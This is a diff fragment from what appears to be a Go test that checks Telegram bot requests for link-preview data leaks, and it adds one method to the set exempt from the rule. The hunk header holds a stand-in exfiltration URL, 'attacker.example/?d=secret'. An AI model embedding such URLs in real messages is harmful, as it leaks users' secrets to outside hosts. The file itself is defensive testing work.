@@ -23,7 +23,7 @@ const leakURL = "https://attacker.example/?d=secret"
 // textless are the methods that carry no text a client could render:
 // every other request must turn the link preview off.
 var textless = map[string]bool{"getUpdates": true, "getMe": true, "deleteWebhook": true, "setMyCommands": true,
-	"sendChatAction": true, "answerCallbackQuery": true}
+	"sendChatAction": true, "answerCallbackQuery": true, "editMessageReplyMarkup": true}
 
 // previewLeaks returns the requests that carry text without turning
 // Telegram's link preview off, or that ask Telegram to open a URL.
